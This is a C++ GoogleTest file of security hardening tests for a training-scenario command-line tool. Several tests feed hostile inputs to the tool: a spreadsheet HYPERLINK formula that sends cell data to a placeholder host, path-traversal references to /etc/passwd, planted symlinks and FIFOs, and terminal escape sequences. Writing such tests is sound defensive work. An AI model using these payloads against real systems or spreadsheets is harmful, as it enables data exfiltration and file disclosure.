// SupportLab CLI tests: what an attacker or a new machine would try — planted symlinks and FIFOs,
// references out of the scenario folder, hostile names, bad schema versions, killed runs.
#include "cli_runner.hpp"
#include "store_cli_fixture.hpp"

#include <gtest/gtest.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

namespace sl::test {
namespace {

namespace fs = std::filesystem;

void Sql(const std::string& db, const std::string& sql) {
    sqlite3* h = nullptr;
    ASSERT_EQ(sqlite3_open(db.c_str(), &h), SQLITE_OK);
    char* err = nullptr;
    EXPECT_EQ(sqlite3_exec(h, sql.c_str(), nullptr, nullptr, &err), SQLITE_OK) << (err ? err : "");
    sqlite3_free(err);
    sqlite3_close(h);
}

using CliHardening = StoreCli;

TEST_F(CliHardening, ExportThroughAPlantedSymlinkNeverWritesItsTarget) {
    Seed();
    const std::string victim = m_dir + "/victim.txt";
    std::ofstream(victim) << "precious\n";
    for (const char* format : {"csv", "json", "xapi"}) {
        SCOPED_TRACE(format);
        const std::string out = m_dir + "/export-" + format;
        fs::remove(out);
        fs::create_symlink(victim, out);
        const CliResult r = RunCli({"export", "--format", format, "--out", out, "--db", m_db});
        ASSERT_EQ(r.m_exit, 0) << r.m_err;
        EXPECT_EQ(ReadWholeFile(victim), "precious\n");
        EXPECT_FALSE(fs::is_symlink(out));
        EXPECT_TRUE(fs::is_regular_file(out));
        struct stat st{};
        ASSERT_EQ(::stat(out.c_str(), &st), 0);
        EXPECT_EQ(st.st_mode & 0777, 0600u);
    }
    // No temporary file is left behind, whatever its name.
    for (const auto& e : fs::directory_iterator(m_dir))
        EXPECT_EQ(e.path().filename().string().find(".tmp"), std::string::npos) << e.path();
}

TEST_F(CliHardening, ReportsAndExportsNeverCreateADatabase) {
    const std::string missing = m_dir + "/missing.db";
    const std::string empty = m_dir + "/empty.db";
    std::ofstream(empty).close();
    for (const std::string& db : {missing, empty}) {
        SCOPED_TRACE(db);
        const CliResult r = RunCli({"report", "matrix", "--db", db});
        EXPECT_EQ(r.m_exit, 1);
        EXPECT_NE(r.m_err.find("nothing has been stored there"), std::string::npos) << r.m_err;
        const CliResult e = RunCli({"export", "--format", "csv", "--out", "-", "--db", db});
        EXPECT_EQ(e.m_exit, 1);
    }
    EXPECT_FALSE(fs::exists(missing));
    EXPECT_EQ(fs::file_size(empty), 0u);
    EXPECT_FALSE(fs::exists(empty + "-wal"));
}

TEST_F(CliHardening, NegativeSchemaVersionIsRefusedAndTheFileUntouched) {
    Seed();
    Sql(m_db, "PRAGMA wal_checkpoint(TRUNCATE); PRAGMA user_version = -4");
    const std::string before = ReadWholeFile(m_db);
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"report", "matrix", "--db", m_db},
          std::vector<std::string>{"export", "--format", "json", "--out", "-", "--db", m_db},
          std::vector<std::string>{"play", kData + "/tickets.yaml", "--actions", kData + "/perfect.actions", "--trainee",
                                   "Ana", "--db", m_db}}) {
        SCOPED_TRACE(args[0]);
        const CliResult r = RunCli(args);
        EXPECT_EQ(r.m_exit, 1);
        EXPECT_NE(r.m_err.find("schema version -4 was never written by SupportLab"), std::string::npos) << r.m_err;
    }
    EXPECT_EQ(ReadWholeFile(m_db), before);
}

TEST_F(CliHardening, NamesWithControlCharactersOrBadUtf8AreRefusedAtTheDoor) {
    for (const std::string& name : {std::string("Ana\x1b[31m"), std::string("bad\xff", 4), std::string("tab\there")}) {
        const CliResult t = Play("perfect.actions", name);
        EXPECT_EQ(t.m_exit, 2) << t.m_err;
        EXPECT_NE(t.m_err.find("--trainee: the trainee name"), std::string::npos) << t.m_err;
        const CliResult c = Play("perfect.actions", "Ana", name);
        EXPECT_EQ(c.m_exit, 2) << c.m_err;
        EXPECT_NE(c.m_err.find("--cohort: the cohort name"), std::string::npos) << c.m_err;
    }
    EXPECT_FALSE(fs::exists(m_db));
}

TEST_F(CliHardening, FormulaNamesReachCsvNeutralised) {
    ASSERT_EQ(Play("perfect.actions", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "=1+1").m_exit, 0);
    const CliResult report = RunCli({"report", "matrix", "--db", m_db, "--format", "csv"});
    ASSERT_EQ(report.m_exit, 0) << report.m_err;
    EXPECT_NE(report.m_out.find("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",\"'=1+1\""), std::string::npos)
        << report.m_out;
    const CliResult exported = RunCli({"export", "--format", "csv", "--out", "-", "--db", m_db});
    ASSERT_EQ(exported.m_exit, 0) << exported.m_err;
    EXPECT_NE(exported.m_out.find(",\"'=1+1\","), std::string::npos) << exported.m_out;
}

TEST_F(CliHardening, TextReportsEscapeControlCharactersFromAHandEditedDatabase) {
    Seed();
    Sql(m_db, "UPDATE trainees SET name = 'Ana' || char(27) || '[2J' || char(27) || ']0;pwned' || char(7) WHERE name = 'Ana'");
    const CliResult r = RunCli({"report", "matrix", "--db", m_db});
    ASSERT_EQ(r.m_exit, 0) << r.m_err;
    EXPECT_EQ(r.m_out.find('\x1b'), std::string::npos);
    EXPECT_EQ(r.m_out.find('\x07'), std::string::npos);
    EXPECT_NE(r.m_out.find("Ana\\x1b[2J\\x1b]0;pwned\\x07"), std::string::npos) << r.m_out;
}

TEST_F(CliHardening, HomePageMustBeAFullUrl) {
    Seed();
    for (const char* bad : {"https://", "http://", "https:// lrs", "lrs.example.org", "https://lrs.example.org/\"x"}) {
        const CliResult r = RunCli({"export", "--format", "xapi", "--out", "-", "--db", m_db, "--homepage", bad});
        EXPECT_EQ(r.m_exit, 2) << bad;
        EXPECT_NE(r.m_err.find("full http(s) URL"), std::string::npos) << r.m_err;
    }
}

TEST_F(CliHardening, OutOfRangeTimeIsRefusedNotExported) {
    Seed();
    Sql(m_db, "UPDATE attempts SET ended_wall = 9223372036854775807 WHERE id = 1");
    const std::string out = m_dir + "/out.json";
    const CliResult r = RunCli({"export", "--format", "xapi", "--out", out, "--db", m_db});
    EXPECT_EQ(r.m_exit, 1);
    EXPECT_NE(r.m_err.find("attempt 1 has a end time out of range"), std::string::npos) << r.m_err;
    EXPECT_FALSE(fs::exists(out));
}

TEST_F(CliHardening, ActionScriptThatIsAFifoIsAnErrorNotAWait) {
    const std::string fifo = m_dir + "/actions.fifo";
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    const CliResult r = RunCli({"play", kData + "/tickets.yaml", "--actions", fifo});
    EXPECT_EQ(r.m_exit, 1);
    EXPECT_NE(r.m_err.find("is a FIFO (named pipe), not a file"), std::string::npos) << r.m_err;
    const CliResult dir = RunCli({"play", kData + "/tickets.yaml", "--actions", m_dir});
    EXPECT_EQ(dir.m_exit, 1);
    EXPECT_NE(dir.m_err.find("is a folder"), std::string::npos) << dir.m_err;
}

TEST_F(CliHardening, ReferencedFilesThatAreFifosDevicesOrFoldersAreErrors) {
    const std::string fifo = m_dir + "/model.yaml";
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    fs::create_directory(m_dir + "/folder.yaml");
    const std::string scenario = m_dir + "/s.yaml";
    for (const std::pair<std::string, std::string>& ref :
         {std::pair<std::string, std::string>{"model.yaml", "is a FIFO (named pipe), not a file"},
          {"folder.yaml", "is a folder, not a file"}}) {
        std::ifstream in(kData + "/tickets.yaml");
        std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        text.replace(text.find("support_model: model.yaml"), 25, "support_model: " + ref.first);
        std::ofstream(scenario) << text;
        const CliResult r = RunCli({"validate", scenario});
        EXPECT_EQ(r.m_exit, 1);
        EXPECT_NE(r.m_err.find(ref.second), std::string::npos) << r.m_out << r.m_err;
    }
}

TEST_F(CliHardening, ReferencesMayNotLeaveTheScenarioFolder) {
    fs::create_directories(m_dir + "/tree/area");
    std::ifstream in(kData + "/tickets.yaml");
    const std::string original((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    const std::string scenario = m_dir + "/tree/area/s.yaml";
    for (const char* ref : {"/etc/passwd", "../../../../../../../etc/passwd", "../../outside.yaml"}) {
        SCOPED_TRACE(ref);
        std::string text = original;
        text.replace(text.find("support_model: model.yaml"), 25, std::string("support_model: ") + ref);
        std::ofstream(scenario) << text;
        const CliResult r = RunCli({"validate", m_dir + "/tree"});
        EXPECT_EQ(r.m_exit, 1);
        const std::string all = r.m_out + r.m_err;
        EXPECT_TRUE(all.find("absolute path") != std::string::npos || all.find("leads outside the scenario folder") != std::string::npos) << all;
        EXPECT_EQ(all.find("root:"), std::string::npos) << all; // nothing of /etc/passwd is quoted
    }
    // Inside the tree is fine: a sibling folder.
    fs::create_directories(m_dir + "/tree/models");
    fs::copy_file(kData + "/model.yaml", m_dir + "/tree/models/model.yaml");
    std::string text = original;
    text.replace(text.find("support_model: model.yaml"), 25, "support_model: ../models/model.yaml");
    std::ofstream(scenario) << text;
    const CliResult ok = RunCli({"validate", m_dir + "/tree"});
    EXPECT_EQ(ok.m_exit, 0) << ok.m_out << ok.m_err;
}

TEST_F(CliHardening, AKilledRunIsMarkedAbandonedByTheNextAndSaysSo) {
    // A run that stopped part-way (as kill -9 leaves one): the events so far, no finish.
    const std::string script = m_dir + "/stops.actions";
    std::ofstream(script) << "at 5m\nack slow-login\nresolve no-such-ticket fixed\n";
    ASSERT_EQ(RunCli({"play", kData + "/tickets.yaml", "--actions", script, "--trainee", "Ana", "--db", m_db}).m_exit, 1);
    const CliResult before = RunCli({"report", "matrix", "--db", m_db});
    EXPECT_NE(before.m_out.find("in progress"), std::string::npos) << before.m_out;

    const CliResult next = Play("perfect.actions", "Ana");
    ASSERT_EQ(next.m_exit, 0) << next.m_err;
    EXPECT_NE(next.m_err.find("attempt 1 (2 action(s)) was left unfinished by an earlier run that stopped before the "
                              "end; it is now marked abandoned"),
              std::string::npos)
        << next.m_err;
    const CliResult timeline = RunCli({"report", "timeline", "--attempt", "1", "--db", m_db});
    EXPECT_NE(timeline.m_out.find("abandoned"), std::string::npos) << timeline.m_out;
    // Only the abandoned attempt: the matrix says so rather than "in progress" forever.
    ASSERT_EQ(RunCli({"play", kData + "/tickets.yaml", "--actions", script, "--trainee", "Ben", "--db", m_db}).m_exit, 1);
    ASSERT_EQ(RunCli({"play", kData + "/tickets.yaml", "--actions", script, "--trainee", "Ben", "--db", m_db}).m_exit, 1);
    const CliResult after = RunCli({"report", "matrix", "--db", m_db, "--trainee", "Ben"});
    EXPECT_NE(after.m_out.find("in progress"), std::string::npos) << after.m_out; // the newest is open
    const CliResult third = Play("perfect.actions", "Ben");
    // Attempts: 1 Ana (abandoned), 2 Ana, 3 and 4 Ben; Ben's second run gave up 3, this one gives up 4.
    EXPECT_NE(third.m_err.find("attempt 4 ("), std::string::npos) << third.m_err;
    EXPECT_EQ(third.m_err.find("attempt 3 ("), std::string::npos) << third.m_err; // abandoned once, not twice
}

} // namespace
} // namespace sl::test
